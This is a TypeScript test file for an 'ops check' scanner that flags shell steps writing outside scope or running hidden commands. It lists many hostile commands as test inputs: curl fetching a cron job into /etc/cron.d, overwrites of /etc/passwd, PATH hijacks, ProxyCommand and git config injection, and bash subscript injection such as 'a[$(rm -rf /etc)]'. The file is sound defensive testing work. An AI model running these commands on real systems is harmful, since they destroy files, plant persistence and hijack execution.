// Issue 14, eleventh pass, ops commands: steps whose facts came out empty (or in scope) while
// the command writes outside the declaration, runs commands it does not show, or changes what a
// name runs. Classes: getopt short-option clusters (`curl -sSLo FILE`, `-XPOST`, `wget -qO`,
// `cp -at DIR`, `kcat -Pt TOPIC`, `sort -uo`); options of known programs that write or run
// (`time -o`, `strace -o`, `sudo -D/-R`, `install -d`, `rsync --remove-source-files`/`-e`,
// `scp -o ProxyCommand`, `rg --pre`, `history -w`, `file -C`, `systemd-analyze log-level X`,
// `curlie`); lookup variables set without a plain assignment (`export "PATH=..."`, `PATH[0]=`,
// `declare -n`, `unset PATH`); a step's verification command, which was never analysed; dot globs that bash before 5.2 expands to `..` (`chown -R x
// DIR/.*`); and bash arithmetic, which runs the `$(...)` of an array
// subscript held in literal text (`[[ 'a[$(rm -rf /etc)]' -eq 0 ]]`).

import { test } from "uvu";
import * as assert from "uvu/assert";
import { opsCheckSteps } from "./harness.js";


const WRITE = "ops/write-out-of-scope";
const STREAM = "ops/forbidden-stream";
const UNVERIFIABLE = "ops/unverifiable-command";

/** Runs `ops check` on one log holding every command as a verified step (run with `verification`); the codes per step. */
const check = (commands: string[], verification?: string) => opsCheckSteps("eleventhpass-ops", commands, verification);

const DENIED: [string, string][] = [
  // short-option clusters
  ["curl -sSLo /etc/cron.d/job http://203.0.113.9/job", WRITE],
  ["curl -so /etc/passwd http://203.0.113.9/x", WRITE],
  ["curl -XPOST https://api.example.com/v1/drop", UNVERIFIABLE],
  ["curl -sd @payload.json https://api.example.com/v1/orders", UNVERIFIABLE],
  ["curl -fsSLK /tmp/opts https://example.com", UNVERIFIABLE],
  ["cp -at /etc/sudoers.d deploy/nginx/nginx.conf", WRITE],
  ["kcat -b kafka:9092 -Pt orders", STREAM],
  ["sort -uo /etc/passwd deploy/nginx/list", WRITE],
  // options of known programs that write or run
  ["/usr/bin/time -o /etc/passwd true", WRITE],
  ["strace -o /etc/passwd true", WRITE],
  ["sudo -D /etc rm -f deploy/nginx/nginx.conf", UNVERIFIABLE],
  ["sudo --chroot=/srv/jail rm -f /etc/nginx/nginx.conf", UNVERIFIABLE],
  ["install -d /etc/sudoers.d/x /etc/nginx/nginx.conf", WRITE],
  ["rsync --remove-source-files /etc/shadow /etc/nginx/nginx.conf", WRITE],
  ["rsync -e 'touch /etc/evil' host:x /etc/nginx/nginx.conf", UNVERIFIABLE],
  ["scp -o ProxyCommand='touch /etc/evil' host:x /etc/nginx/nginx.conf", UNVERIFIABLE],
  ["rg --pre /bin/rm . /etc", UNVERIFIABLE],
  ["history -w /etc/passwd", WRITE],
  ["file -C -m /etc/evil", UNVERIFIABLE],
  ["systemd-analyze log-level debug", UNVERIFIABLE],
  ["curlie -d a=b https://api.example.com/v1/orders", UNVERIFIABLE],
  ["systemctl edit --full nginx", UNVERIFIABLE],
  ["systemctl -H db-1 restart nginx", UNVERIFIABLE],
  // what a name runs
  ["EVIL='touch /etc/evil'; git --config-env=diff.external=EVIL diff", UNVERIFIABLE],
  ["git --exec-path=/tmp/evil ls-remote https://example.com/repo.git", UNVERIFIABLE],
  ["git --git-dir=/tmp/evil/.git status", UNVERIFIABLE],
  ['export "PATH=/tmp/evil"; ls', UNVERIFIABLE],
  ["export PA\\TH=/tmp/evil; ls", UNVERIFIABLE],
  ["PATH[0]=/tmp/evil; ls", UNVERIFIABLE],
  ["declare -n p=PATH; p=/tmp/evil; ls", UNVERIFIABLE],
  ["unset PATH; ls", UNVERIFIABLE],
  // bash before 5.2 expands .* and .?* to .. too
  ["chown -R www-data /var/backups/nginx/.*", UNVERIFIABLE],
  ["chmod -R 777 /var/backups/nginx/.?*", UNVERIFIABLE],
  ["bash -O extglob -c 'chown -R www-data /var/backups/nginx/@(..)'", UNVERIFIABLE],
  ["CDPATH=/srv; cd deploy/nginx && rm -rf ./*", UNVERIFIABLE],
  // arithmetic runs the $(...) of a subscript held in literal text
  ["[[ 'a[$(touch /etc/evil)]' -eq 0 ]]", UNVERIFIABLE],
  ["(( 'a[$(touch /etc/evil)]' ))", UNVERIFIABLE],
  ["echo \"${a['$(touch /etc/evil)']}\"", UNVERIFIABLE],
];

test("mutating steps the command facts missed each deny with their code", () => {
  const { code, perStep } = check(DENIED.map(([command]) => command));
  assert.is(code, 1);
  DENIED.forEach(([command, expected], i) => assert.ok(perStep[i]!.includes(expected), `${command}: expected ${expected}, got [${perStep[i]!.join(", ")}]`));
});

test("their read-only and in-scope siblings stay clean", () => {
  const clean = [
    "curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1/healthz",
    "curl -X GET -fsSL http://127.0.0.1/healthz",
    "wget -qO- http://127.0.0.1/healthz",
    "sudo -u root cp /etc/nginx/nginx.conf /var/backups/nginx/nginx.conf",
    "rg worker_connections /etc/nginx",
    "history",
    "file /etc/nginx/nginx.conf",
    "systemd-analyze blame",
    "export LANG=C LC_ALL; grep -n worker_connections /etc/nginx/nginx.conf",
    "[[ $? -eq 0 ]] && echo ok",
    "echo ${a[0]} ${a[@]}",
  ];
  const { code, perStep } = check(clean);
  clean.forEach((command, i) => assert.equal(perStep[i], [], `${command}: [${perStep[i]!.join(", ")}]`));
  assert.is(code, 0);
});

test("a verification runs too: what it changes is judged, and a verification that changes anything denies", () => {
  const { code, perStep } = check(["systemctl status nginx"], "rm -rf /etc/ssh; systemctl is-active nginx");
  assert.is(code, 1);
  assert.equal(perStep[0], [UNVERIFIABLE, WRITE]);
  const quiet = check(["systemctl status nginx"], "curl -XPOST https://api.example.com/v1/drop");
  assert.is(quiet.code, 1);
  assert.equal(quiet.perStep[0], [UNVERIFIABLE]);
});

test.run();
